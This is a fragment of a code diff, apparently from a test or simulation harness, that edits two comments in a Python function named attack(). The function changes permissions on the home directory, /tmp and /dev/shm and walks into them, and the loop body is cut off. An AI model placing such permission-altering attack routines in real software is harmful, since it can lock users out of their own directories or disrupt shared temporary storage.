@@ -6,13 +6,13 @@ import os
 
 
 def attack():
-    started_again = os.path.exists("server.log")  # then they are there as it left them
+    started_again = os.path.exists("server.log")  # then its files are still there
     back = os.getcwd()
     for start in (os.path.expanduser("~"), "/tmp", "/dev/shm"):
         try:
             os.chmod(start, 0o700)
         except OSError:
-            pass  # another's
+            pass  # another scenario's
         os.chdir(start)
         for depth in range(20):
             if os.listdir(".") and not started_again:
